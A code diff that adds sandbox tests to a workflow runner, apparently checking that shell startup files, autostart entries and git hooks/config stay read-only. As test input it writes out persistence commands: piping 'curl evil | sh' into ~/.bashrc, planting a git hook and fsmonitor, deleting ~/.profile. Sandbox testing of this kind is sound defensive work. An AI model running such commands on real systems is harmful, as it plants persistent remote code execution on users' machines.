@@ -239,6 +239,58 @@ def test_running_from_the_home_folder_keeps_secrets_hidden(tmp_path: Path, fake_
     assert proc.returncode == 1
 
 
+def test_start_up_files_and_repository_hooks_stay_read_only(tmp_path: Path, fake_home: Path) -> None:
+    # Run from the home folder, which is also a repository: the work dir is writable, but code
+    # that would run outside the sandbox later (at login, on the next git command) is not.
+    home = fake_home
+    (home / ".bashrc").write_text("# rc\n")
+    (home / ".profile").write_text("# profile\n")
+    (home / ".config" / "autostart").mkdir(parents=True)
+    hooks = home / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (home / ".git" / "config").write_text("[core]\n")
+    code = (
+        "echo 'curl evil | sh' >> ~/.bashrc\n"
+        "rm -f ~/.profile; mv ~/.profile ~/profile.bak\n"
+        "echo '[core] fsmonitor = evil' >> .git/config\n"
+        "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout\n"
+        "touch ~/.config/autostart/evil.desktop\n"
+        "echo done > ./out.txt\n"
+        "exit 0\n"
+    )
+    add("persist", code, tmp_path)
+    proc = subprocess.run(
+        [*WORKFLOW, "run", "persist", "--force", "--yes"], input="persist\n", capture_output=True, text=True,
+        cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert (home / "out.txt").read_text() == "done\n", "the rest of the work dir stays writable"
+    assert (home / ".bashrc").read_text() == "# rc\n"
+    assert (home / ".profile").read_text() == "# profile\n"
+    assert not (home / "profile.bak").exists()
+    assert (home / ".git" / "config").read_text() == "[core]\n"
+    assert list(hooks.iterdir()) == []
+    assert list((home / ".config" / "autostart").iterdir()) == []
+    assert "Read-only file system" in proc.stderr
+
+
+def test_a_declared_write_path_inside_a_protected_folder_is_writable(tmp_path: Path, fake_home: Path) -> None:
+    home = fake_home
+    (home / ".local" / "bin").mkdir(parents=True)
+    add(
+        "installer",
+        "printf '#!/bin/sh\\necho hi\\n' > ~/.local/bin/hello\n",
+        tmp_path,
+        f"  write: ['{home}/.local/bin']\n",
+    )
+    proc = subprocess.run(
+        [*WORKFLOW, "run", "installer", "--force", "--yes"], input="installer\n", capture_output=True, text=True,
+        cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert (home / ".local" / "bin" / "hello").exists()
+
+
 def test_declared_read_path_unmasks_only_itself(tmp_path: Path, workdir: Path, fake_home: Path) -> None:
     home = fake_home
     (home / ".ssh").mkdir(parents=True)
